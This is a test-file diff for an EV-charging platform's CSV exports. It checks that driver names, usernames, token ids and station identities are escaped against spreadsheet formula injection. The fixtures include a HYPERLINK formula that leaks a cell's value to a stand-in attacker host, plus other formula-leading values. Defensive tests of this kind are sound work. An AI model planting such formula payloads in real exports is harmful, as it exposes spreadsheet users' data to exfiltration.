@@ -152,3 +152,40 @@ def test_no_sessions_means_no_rate_rather_than_a_division_error(staff):
     today = timezone.localdate()
     figures = analytics.disputes_and_refunds(staff, analytics.Filters(start=today, end=today))
     assert figures["dispute_rate"] is None and figures["money"] == []
+
+
+def test_driver_text_never_starts_a_spreadsheet_formula_and_amounts_stay_numbers(client, operator, staff):
+    """Names, usernames, token ids and station identities come from drivers and chargers: a cell that would
+    start a formula (= + - @, tab, CR) is led by an apostrophe; amounts, negative ones included, are not."""
+    driver = factories.DriverFactory(operator=operator, username="@SUM(1+1)")
+    driver.driver_profile.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
+    driver.driver_profile.company_vat_id = "+49 30 1234"
+    driver.driver_profile.save()
+    account(driver)
+    station_connector = factories.ConnectorFactory(station__location__operator=operator,
+                                                   station__ocpp_identity="-2+3")
+    charge = charged_session(connector=station_connector, driver=driver, started_at=T0, energy_kwh="10")
+    token = factories.IdTokenFactory(operator=operator, driver=driver, uid="\tcmd")
+    charge.session.id_token = token
+    charge.session.save(update_fields=["id_token"])
+    receipt = invoicing.receipt_issue_for_session(session_id=charge.session_id, now=T0 + timedelta(days=1))
+    invoicing.credit_note_issue(invoice_id=receipt.pk, reason="x", amount_incl_vat=D("2.00"),
+                                now=T0 + timedelta(days=2))
+    client.force_login(staff)
+
+    session = _csv(client, "sessions")[0]
+    assert (session["driver"], session["station"], session["token"]) == ("'@SUM(1+1)", "'-2+3", "'\tcmd")
+    assert (session["session_id"], session["energy_kwh"], session["total_incl_vat"]) == (
+        str(charge.session_id), "10.000", "4.64")
+    invoice, note = _csv(client, "invoices")
+    assert invoice["buyer_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")'
+    assert (invoice["buyer_vat_id"], invoice["driver"]) == ("'+49 30 1234", "'@SUM(1+1)")
+    assert (note["total_excl_vat"], note["total_vat"], note["total_incl_vat"]) == ("-1.68", "-0.32", "-2.00")
+    assert _csv(client, "payments") == []
+
+
+def test_spreadsheet_safe_leads_only_formula_text_with_an_apostrophe():
+    safe = accounting_exports.spreadsheet_safe
+    assert [safe(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "Anna", "", "a=b")] == [
+        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "Anna", "", "a=b"]
+    assert safe(D("-5.00")) == D("-5.00") and safe(-3) == -3
